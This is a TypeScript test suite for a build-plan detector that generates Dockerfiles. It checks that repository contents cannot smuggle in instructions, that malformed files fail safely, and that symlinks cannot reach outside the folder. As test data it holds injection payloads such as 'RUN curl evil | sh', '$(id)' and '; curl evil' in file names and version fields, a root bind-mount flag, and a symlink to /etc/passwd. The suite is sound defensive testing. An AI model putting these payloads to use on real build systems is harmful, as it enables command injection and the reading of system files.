import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { detect } from '#server/builds/detect'
import { DetectionError, type BuildPlan } from '#server/builds/plan'
import { memoryTree, openTree } from '#server/builds/source-tree'
import { STACKS } from '#server/builds/stacks/index'

/** The instructions of a Dockerfile by name, so that a smuggled one is noticed whatever it does. */
function instructions(plan: BuildPlan): string[] {
  return plan.dockerfile
    .split(/\r?\n/)
    .filter((line) => line !== '' && !line.startsWith('#'))
    .map((line) => line.split(' ')[0]!)
}

const EVIL = 'x\nFROM evil\nRUN curl evil | sh\r\nUSER root'
const KNOWN = new Set('FROM ARG ENV WORKDIR COPY RUN USER EXPOSE STOPSIGNAL ENTRYPOINT CMD'.split(' '))
const express = {
  'package.json':
    '{"name":"a","scripts":{"start":"node index.js","build":"tsc"},"dependencies":{"express":"4"}}',
  'index.js': '',
}

/**
 * The same files with and without the attack must give the same instructions, and never the attack's image or
 * user.
 */
function expectHarmless(plan: BuildPlan): void {
  for (const name of instructions(plan)) expect(KNOWN).toContain(name)
  // That of a base image is put out of force; one that does something never stands there.
  expect(plan.dockerfile).not.toMatch(/^\s*ENTRYPOINT (?!\[\]$)/m)
  expect(plan.dockerfile).not.toMatch(/^\s*FROM evil/m)
  expect(plan.dockerfile).not.toMatch(/^\s*USER root/m)
  expect(plan.dockerfile).not.toMatch(/^ENTRYPOINT (?!\[\]$)/m)
  expect(plan.dockerfile).not.toMatch(/^\s*RUN curl evil/m)
  expect(plan.dockerfile).not.toMatch(/\u2028|\u2029|\u0085/)
  for (const line of plan.dockerfile.split('\n').filter((text) => text.startsWith('FROM '))) {
    expect(line).toMatch(/^FROM [a-z0-9][a-z0-9./_-]*(:[A-Za-z0-9._-]+)? AS (base|build|app)$/)
  }
}

describe('no text of a repository becomes an instruction of a Dockerfile', () => {
  it.each(['install_command', 'build_command', 'start_command'] as const)(
    'keeps a %s with line breaks one command',
    (field) => {
      const harmless = detect(memoryTree(express), { [field]: 'echo ok; true' })
      const plan = detect(memoryTree(express), { [field]: EVIL })
      expectHarmless(plan)
      expect(instructions(plan)).toEqual(instructions(harmless))
      expect(plan.dockerfile).toContain(String.raw`x\nFROM evil`)
    },
  )

  it.each([
    ['a here-document', 'cat <<EOF\nFROM evil\nEOF'],
    ['a trailing backslash', 'echo a \\'],
    ['a mount flag', '--mount=type=bind,source=/,target=/host true'],
    ['a JSON array', '["/bin/sh", "-c", "id"]'],
    ['a line separator of Unicode', 'echo a\u2028FROM evil\u2029USER root\u0085RUN curl evil'],
    ['a parser directive', '# escape=`\nFROM evil'],
  ])('runs %s inside the shell', (_, command) => {
    const plan = detect(memoryTree(express), { build_command: command, start_command: command })
    expectHarmless(plan)
    expect(plan.dockerfile).not.toMatch(/^RUN (?:--(?!mount=type=cache,sharing=locked,target=\/)|<<|#)/m)
    expect(plan.dockerfile).not.toMatch(/^RUN [^[]*type=bind/m)
  })

  const versions: Record<string, Record<string, string>> = {
    '.nvmrc': { ...express, '.nvmrc': EVIL },
    'engines.node': {
      'package.json': JSON.stringify({
        name: 'a',
        scripts: { start: 'node index.js' },
        engines: { node: EVIL },
      }),
      'index.js': '',
    },
    packageManager: {
      'package.json': JSON.stringify({
        name: 'a',
        scripts: { start: 'node index.js' },
        packageManager: `pnpm@9 && ${EVIL}`,
      }),
      'index.js': '',
    },
    '.python-version': { 'main.py': '', '.python-version': '3.12 AS x\nRUN curl evil' },
    'runtime.txt': { 'main.py': '', 'runtime.txt': `python-${EVIL}` },
    'go.mod': {
      'go.mod': `module a/${'b"c$(id)'}\n\ngo 1.22\nFROM evil`,
      'main.go': 'package main\nfunc main() {}\n',
    },
    'rust-toolchain': {
      'Cargo.toml': `[package]\nname = "a; curl evil"\n`,
      'src/main.rs': '',
      'rust-toolchain': `1.80\nFROM evil`,
    },
    'global.json': {
      'App.csproj':
        '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0 $(id)</TargetFramework><AssemblyName>a$(id)\n"x</AssemblyName></PropertyGroup></Project>',
      'global.json': JSON.stringify({ sdk: { version: EVIL } }),
    },
    'mise.toml': { ...express, 'mise.toml': '[tools]\nnode = """20\nFROM evil"""\n' },
    Gemfile: { Gemfile: `ruby '3.3\nFROM evil'\ngem 'sinatra'\n`, 'app.rb': '' },
    'mix.exs': { 'mix.exs': 'app: :hello$(id), elixir: "1.1\nFROM evil"' },
    'gleam.toml': { 'gleam.toml': 'name = "a"\ngleam = """1.0\nFROM evil"""' },
    'deno version': { 'deno.json': '{}', 'main.ts': '', '.dvmrc': '2 && curl evil' },
    'zig version': { 'build.zig': '', '.zig-version': '0.13.0; curl evil' },
    'next output folder': {
      'package.json': '{"scripts":{"build":"next build"},"dependencies":{"next":"15"}}',
      'next.config.js': "module.exports = { output: 'export', distDir: 'a\"; curl evil; \"' }",
    },
    'workspace folder': {
      'package.json': '{"workspaces":["apps/*"]}',
      'apps/x"; curl evil; "/package.json': '{"scripts":{"start":"node a.js"},"dependencies":{"next":"1"}}',
      'apps/ok/package.json': '{"scripts":{"start":"node a.js"}}',
    },
    'workspace name': {
      'package.json': '{"workspaces":["apps/*"],"devDependencies":{"turbo":"2"}}',
      'turbo.json': '{}',
      'apps/ok/package.json': JSON.stringify({
        name: 'a; curl evil',
        scripts: { start: 'node a.js', build: 'x' },
      }),
    },
    'requirements path': {
      'requirements.txt': 'flask',
      'requirements-$(id).txt': 'x',
      'app.py': 'from flask import Flask\napp = Flask(__name__)',
    },
    'folder of manage.py': {
      "a'b;id/manage.py": 'django',
      "a'b;id/x/wsgi.py": '',
      'requirements.txt': 'django',
    },
    'cmd folder': { 'go.mod': 'module a\n', 'cmd/a;id/main.go': 'package main\nfunc main() {}\n' },
    'Rust binary': {
      'Cargo.toml': '[package]\nname = "a"\ndefault-run = "b; curl evil"\n',
      'src/main.rs': '',
    },
    'Swift product': { 'Package.swift': '.executable(name: "a; curl evil"' },
    Staticfile: { Staticfile: 'root: "a; curl evil"', 'index.html': '' },
    'Dart main': { 'pubspec.yaml': 'name: "a; curl evil"', 'bin/a; curl evil.dart': '' },
    'release of Meteor': {
      'package.json': '{"scripts":{"start":"meteor"}}',
      '.meteor/release': 'METEOR@3.0"; curl evil; "',
    },
    'release of Erlang': { 'rebar.config': '{relx, [{release, {a; curl evil, "1"}, [a]}]}.' },
    'Julia script': {
      'Project.toml': '[deps]\n"a; curl evil" = "x"\n',
      'a; curl evil.jl': 'using HTTP; curl evil',
      'main.jl': '',
    },
    'R script': { 'run.R': '', 'a; curl evil.R': 'library(shiny); curl evil' },
    'COBOL program': { "a'; curl evil; '.cbl": '' },
    'Lisp system': { 'a; curl evil.asd': '', Procfile: 'web: true' },
    'conda version': {
      'environment.yml': 'dependencies:\n  - python=3.12 && curl evil\n',
      'app.py': '',
    },
    'Quarto folder': { '_quarto.yml': 'project:\n  output-dir: "a; curl evil"\n' },
    'Elm script': {
      'elm.json': '{}',
      'src/Main.elm': '',
      'index.html': '<script src="a;curl evil.js"></script>',
    },
    'settings of Leptos': {
      'Cargo.toml':
        '[package]\nname = "a; curl evil"\n[package.metadata.leptos]\noutput-name = "a; curl evil"\nsite-pkg-dir = "a; curl evil"\n',
    },
    'folder of Trunk': {
      'Cargo.toml': '[package]\nname = "a"\n',
      'Trunk.toml': '[build]\ndist = "a; curl evil"\n',
    },
    'published .NET': {
      'a; curl evil.runtimeconfig.json': '{}',
      'a; curl evil.dll': '',
      'index.html': '',
    },
    'function name': {
      'package.json': '{"dependencies":{"@google-cloud/functions-framework":"3"}}',
      'index.js': 'functions.http("a; curl evil", f)',
    },
    'Crystal main': { 'shard.yml': 'targets:\n  a:\n    main: "a; curl evil"\n' },
  }
  it.each(Object.entries(versions))('ignores or quotes an attack in %s', (_, files) => {
    expectHarmless(detect(memoryTree(files)))
  })

  it('takes only names of variables as build arguments', () => {
    const { dockerfile } = detect(memoryTree(express), {
      build_args: ['NEXT_PUBLIC_URL', 'A=1\nFROM evil', '1x'],
    })
    expect(dockerfile.match(/^ARG .*$/gm)).toEqual(['ARG NEXT_PUBLIC_URL'])
  })
})

describe('detection of a hostile folder ends with a plan or a DetectionError', () => {
  const nasty = [
    '',
    '{',
    '[',
    'null',
    '42',
    '"text"',
    '[[[[',
    '\uFEFF{"name":"x"}',
    '{"__proto__":{"scripts":{"start":"x"}},"constructor":1,"toString":"x"}',
    '\0\0\0',
    '<a><b',
    '- - - &a [*a]',
    'a: &a [*a, *a]',
    '? '.repeat(900),
    '- '.repeat(1900),
    '"\n'.repeat(30_000),
    'a: 1\n'.repeat(13_000),
    '= = =',
    '"'.repeat(50_000),
    '{'.repeat(50_000),
    '['.repeat(50_000),
    ' '.repeat(200_000),
    '\n'.repeat(200_000),
    'a'.repeat(300_000),
    '\\'.repeat(20_000),
    '{"scripts":{"start":{"a":1},"build":[1]},"dependencies":[1,2],"engines":"x","workspaces":{"packages":7},"packageManager":9,"main":{}}',
  ]
  const neighbours: Record<string, string>[] = [
    {},
    { 'package.json': '{"scripts":{"start":"node index.js"}}', 'index.js': '' },
    { 'index.html': '', 'main.py': 'import flask' },
  ]
  const files = [
    'package.json',
    'pnpm-workspace.yaml',
    'turbo.json',
    'nx.json',
    'angular.json',
    'next.config.js',
    'vite.config.ts',
    'pnpm-lock.yaml',
    'requirements.txt',
    'pyproject.toml',
    'Pipfile',
    'setup.py',
    'main.py',
    'go.mod',
    'main.go',
    'composer.json',
    'index.php',
    'Gemfile',
    'Gemfile.lock',
    'pom.xml',
    'build.gradle',
    'build.sbt',
    'Cargo.toml',
    'rust-toolchain',
    'App.csproj',
    'global.json',
    'mix.exs',
    'gleam.toml',
    'shard.yml',
    'stack.yaml',
    'package.yaml',
    'Package.swift',
    'build.zig',
    'build.zig.zon',
    'pubspec.yaml',
    'CMakeLists.txt',
    'deno.json',
    'mkdocs.yml',
    'config.toml',
    'book.toml',
    'Staticfile',
    'Procfile',
    'portreeve.json',
    'app.json',
    'railway.json',
    'railpack.json',
    'nixpacks.toml',
    'fly.toml',
    'render.yaml',
    'heroku.yml',
    '.nvmrc',
    '.tool-versions',
    'mise.toml',
    'project.clj',
    'deps.edn',
    'Dockerfile',
    'cpanfile',
    'app.nimble',
    'dune-project',
    'bin/dune',
    'app.opam',
    'app.rockspec',
    'main.lua',
    '_config.yml',
    'project.json',
    'server.js',
    'package.json5',
    '.meteor/release',
    'polymer.json',
    'antora-playbook.yml',
    'Trunk.toml',
    'Dioxus.toml',
    'rebar.config',
    'index.cbl',
    'Project.toml',
    'main.jl',
    'app.R',
    'renv.lock',
    'plumber.R',
    'dub.json',
    'dub.sdl',
    'v.mod',
    'main.rkt',
    'app.asd',
    'app.tcl',
    'App.runtimeconfig.json',
    'environment.yml',
    '_quarto.yml',
    'conf.py',
    'elm.json',
    'build.mill',
  ]
  it.each(files)('%s', (file) => {
    for (const text of nasty) {
      for (const beside of neighbours) {
        try {
          const plan = detect(memoryTree({ ...beside, [file]: text }))
          if (plan.stack !== 'dockerfile') expectHarmless(plan)
        } catch (error) {
          expect(error).toBeInstanceOf(DetectionError)
        }
      }
    }
  })

  it.each([...new Set(STACKS.map((stack) => stack.name))])(
    'survives the stack %s being forced on an empty folder',
    (stack) => {
      try {
        expect(detect(memoryTree({}), { stack }).stack).toBe(stack)
      } catch (error) {
        expect(error).toBeInstanceOf(DetectionError)
        expect((error as DetectionError).message).not.toContain('could not be turned into a build')
      }
    },
  )
})

describe('no line of a file keeps detection busy', () => {
  const page = { 'index.html': '<p>x</p>' }
  const lines: Record<string, Record<string, string>> = {
    'settings before a command of Go': {
      'go.mod': 'module a\n',
      'main.go': 'package main\nfunc main() {}\n',
      Procfile: `web: ${'a=a=a=a=a '.repeat(40)}x`,
    },
    'words of nginx': { ...page, 'nginx.conf': 'try_files '.repeat(6_000) },
    'spaces of Caddy': { ...page, Caddyfile: `rewrite${' '.repeat(60_000)}x` },
    'words of Caddy': { ...page, Caddyfile: `${'rewrite '.repeat(7_000)}x` },
  }
  it.each(Object.entries(lines))('%s', (_, files) => {
    expect(detect(memoryTree(files)).dockerfile).toContain('FROM')
  })
  // What a pattern goes back over has an end; how long it takes says nothing on a machine that is quick.
  it.each(['Caddyfile', 'nginx.conf', '.htaccess'])('of a line in %s only the beginning is read', (file) => {
    const rule = file === '.htaccess' ? 'FallbackResource /index.html' : 'try_files $uri /index.html;'
    const builtWith = (spaces: number) =>
      detect(memoryTree({ ...page, 'about.html': '', [file]: `\n${' '.repeat(spaces)}${rule}\n` })).dockerfile
    expect(builtWith(100)).not.toBe(builtWith(1_000))
    expect(builtWith(1_000)).toBe(detect(memoryTree({ ...page, 'about.html': '' })).dockerfile)
  })
})

describe('a source tree shows nothing but files of the folder', () => {
  const made: string[] = []
  const folder = () => {
    const path = mkdtempSync(join(tmpdir(), 'tree-'))
    made.push(path)
    return path
  }
  afterEach(() => made.splice(0).forEach((path) => rmSync(path, { recursive: true, force: true })))

  it('follows links to files inside and never outside', async () => {
    const [outside, inside] = [folder(), folder()]
    writeFileSync(join(outside, 'secret.txt'), 'canary')
    writeFileSync(join(inside, 'real.txt'), 'text')
    symlinkSync(join(outside, 'secret.txt'), join(inside, 'package.json'))
    symlinkSync('/etc/passwd', join(inside, 'Procfile'))
    symlinkSync('real.txt', join(inside, 'linked.txt'))
    symlinkSync(outside, join(inside, 'folder'))
    symlinkSync('.', join(inside, 'loop'))
    const tree = await openTree(inside)
    expect(tree.files()).toEqual(['linked.txt', 'real.txt'])
    expect(tree.read('linked.txt')).toBe('text')
    expect(tree.read('package.json')).toBeUndefined()
    expect(tree.read(`../${outside.split('/').at(-1)}/secret.txt`)).toBeUndefined()
  })

  it('holds up nobody while it looks, and follows no more than a thousand links', async () => {
    const path = folder()
    writeFileSync(join(path, 'real.txt'), 'text')
    for (let link = 0; link < 1100; link++) symlinkSync('real.txt', join(path, `${link}.txt`))
    const opening = openTree(path)
    const others = new Promise((resolve) => setImmediate(resolve, 'others'))
    expect(await Promise.race([opening, others])).toBe('others')
    expect((await opening).files()).toHaveLength(1001)
  })

  it('shows a sub-folder as a tree of its own that cannot be left', async () => {
    const path = folder()
    mkdirSync(join(path, 'apps/web'), { recursive: true })
    writeFileSync(join(path, 'apps/web/index.html'), 'x')
    writeFileSync(join(path, 'top.txt'), 'x')
    const tree = await openTree(path)
    for (const name of ['apps/web', './apps/web/', 'apps//web', 'apps\\web', 'apps/../apps/web'])
      expect(tree.sub(name).files()).toEqual(['index.html'])
    for (const name of ['..', '../..', '/etc', 'apps/../../x', 'missing', 'apps/web\0'])
      expect(tree.sub(name).files()).toEqual([])
    expect(tree.sub('apps').sub('web').has('index.html')).toBe(true)
    expect(tree.sub('apps/web').sub('..').files()).toEqual([])
  })

  it('ignores installed packages, binary and huge files', async () => {
    const path = folder()
    for (const name of ['.git', 'node_modules', 'a/node_modules/b', '.venv'])
      mkdirSync(join(path, name), { recursive: true })
    for (const name of ['.git/config', 'node_modules/x.js', 'a/node_modules/b/package.json', '.venv/x.py'])
      writeFileSync(join(path, name), 'x')
    writeFileSync(join(path, 'binary'), Buffer.from([1, 0, 2]))
    writeFileSync(join(path, 'huge.json'), Buffer.alloc(1024 * 1024 + 1, 32))
    writeFileSync(join(path, 'latin.txt'), Buffer.from([0xe9, 0x41]))
    const tree = await openTree(path)
    expect(tree.files()).toEqual(['binary', 'huge.json', 'latin.txt'])
    expect(tree.read('binary')).toBeUndefined()
    expect(tree.read('huge.json')).toBeUndefined()
    expect(tree.read('latin.txt')).toContain('A')
  })

  it('stops at 20,000 files and still sees the root', async () => {
    const path = folder()
    for (let group = 0; group < 21; group++) {
      mkdirSync(join(path, `many/${group}`), { recursive: true })
      for (let file = 0; file < 1000; file++) writeFileSync(join(path, `many/${group}/${file}.txt`), '')
    }
    writeFileSync(join(path, 'index.html'), '<p>')
    let deep = path
    for (let level = 0; level < 60; level++) deep = join(deep, 'd')
    mkdirSync(deep, { recursive: true })
    writeFileSync(join(deep, 'lost.txt'), '')
    const tree = await openTree(path)
    expect(tree.files().length).toBe(20_000)
    expect(detect(tree).stack).toBe('static')
  })
})
